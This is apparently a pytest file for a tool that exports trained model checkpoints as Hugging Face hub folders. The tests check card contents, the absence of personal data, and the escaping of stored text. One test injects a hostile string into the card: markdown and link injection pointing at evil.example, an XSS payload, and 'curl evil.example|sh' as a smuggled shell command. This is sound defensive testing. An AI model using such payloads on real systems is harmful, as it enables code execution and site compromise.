"""`export --format hub`: a folder that the Hugging Face hub accepts, with the ledger's numbers and no person's name."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path

import pytest
from huggingface_hub import ModelCard

from relay.app.models.trm import Trm
from relay.app.views.modelcard import Told, card
from tests.app.cli import Desk
from tests.core.making import begun, checkpoint
from tests.core.toy import MEASURES

SMALL = ("batch_size=4", "data.train_rows=8", "arch.hidden_size=16", "arch.num_heads=2", "arch.H_cycles=1",
         "arch.L_cycles=1")  # fmt: skip
SECRET = "hf_abcdefghijklmnop1234"


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    """Two people's sessions; the last commit was evaluated."""
    desk = Desk(tmp_path_factory.mktemp("cards"), {"HF_TOKEN": SECRET}, plugin=Trm())  # type: ignore[arg-type]
    desk("register", "account_1", "Ana's Colab")
    desk.train(2, *SMALL, "evaluation.every_commits=0")
    desk.train(4, *SMALL, "evaluation.rows=8", account="account_2")
    return desk


@pytest.mark.slow
def test_the_folder_is_one_that_the_hub_accepts(desk: Desk) -> None:
    files = [Path(name) for name in desk("export", "--run", "r", "--format", "hub", "--json").json["files"]]
    assert sorted(path.name for path in files) == ["README.md", "config.json", "model.safetensors"]
    (written,) = (path for path in files if path.name == "README.md")
    read = ModelCard.load(written)
    assert read.data.library_name == "trm-relay" and read.data.license is None, "the owner's to choose"
    assert {"sudoku4", "ema", "safetensors"} <= set(read.data.tags or [])
    results = {result.metric_type: result for result in read.data.eval_results or []}
    manifest = json.loads(next((desk.folder / "relay_store").rglob("r/step_4.e2/manifest.json")).read_text())
    assert results.keys() == {"exact_accuracy", "cell_accuracy"}
    for name, result in results.items():
        assert result.metric_value == round(manifest["metrics"][f"valid/{name}"], 6)
        assert f"{manifest['metrics']['valid/n']:.0f} validation rows" in str(result.dataset_name)
    text = written.read_text()
    assert "step | 4, " in text and "2 accounts" in text and "2 sessions" in text
    assert not any(word in text for word in ("Ana", "account_1", "account_2", str(desk.folder), SECRET))
    head = text.partition("# r")[0]
    assert "# license: " in head


@pytest.mark.slow
def test_the_card_names_the_command_that_loads_the_file_strictly(desk: Desk) -> None:
    desk("export", "--run", "r", "--format", "hub", "--out", "hub")
    text = (desk.folder / "hub" / "step_4" / "README.md").read_text()
    (line,) = (line for line in text.splitlines() if line.startswith("python rotate_accounts.py evaluate"))
    words = line.split()[2:]
    words[words.index("model.safetensors")] = "hub/step_4/model.safetensors"
    shown = desk(*words, "--rows", "2", "--json").json
    assert shown["which"] == "weights only" and set(shown["metrics"]) >= {"exact_accuracy"}
    desk(*(word for word in words if not word.startswith("arch.")), "--rows", "2", code=65)


@pytest.mark.slow
def test_raw_weights_carry_no_number_that_was_measured_of_the_averaged_ones(desk: Desk) -> None:
    desk("export", "--run", "r", "--format", "hub", "--raw", "--out", "raw")
    read = ModelCard.load(desk.folder / "raw" / "step_4" / "README.md")
    assert not read.data.eval_results and "raw-weights" in (read.data.tags or [])


def test_text_from_the_store_breaks_neither_the_yaml_nor_the_numbers() -> None:
    _, client = begun()
    client.commit(5)
    state = client.ledger.read().state
    pinned = {"task": "x: [y\n---\n", "batch_size": 4}
    metrics = {"valid/exact: {a": 0.5, "valid/n": 8.0, "loss": 1.0}
    text = card(
        Told(state, checkpoint(5, 1), "newest checkpoint", pinned, True, metrics, ["task=x"], MEASURES, Trm.published)
    )
    read = ModelCard(text)
    assert [result.metric_value for result in read.data.eval_results or []] == [0.5]


def test_text_from_the_store_is_shown_as_text_and_is_no_markup_and_no_shell_command() -> None:
    """A member may write any genesis and any metric's name; the card is published under another person's name."""
    _, client = begun()
    client.commit(5)
    evil = "x` |\n\n# Win [here](http://evil.example)\n```\n<img src=x onerror=alert(1)>; curl evil.example|sh"
    pinned = {"task": evil, "batch_size": 4, "data": {evil: evil, "train": "sha256:00"}, "arch": {"x": evil}}
    metrics = {"valid/a|[b](http://evil.example)<img src=x>`": 0.5, "valid/n": 8.0}
    told = Told(
        client.ledger.read().state,
        checkpoint(5, 1),
        "x",
        pinned,
        True,
        metrics,
        [f"task={evil}"],
        MEASURES,
        Trm.published,
    )
    body = ModelCard(card(told)).text
    lines = body.splitlines()
    headings = [line.split()[0] for line in lines if line.startswith("#")]
    assert headings == ["#", "##", "##", "##", "##"] and "# run_a" in lines
    assert [line for line in lines if line.startswith("```")] == ["```text", "```", "```json", "```"]
    prose = re.sub(r"^```.*?^```$", "", body, flags=re.DOTALL | re.MULTILINE)
    seen = re.sub(r"`[^`\n]*`", "", prose)
    assert "http" not in seen and "<" not in seen and "evil" not in seen
    for row in (line for line in prose.splitlines() if line.startswith("|")):
        assert len(re.findall(r"(?<!\\)\|", row)) == 3, "no cell is added"
    (typed,) = (line for line in lines if line.startswith("python rotate_accounts.py"))
    assert shlex.split(typed)[-1].startswith("task=x` | # Win"), "one word for a shell"
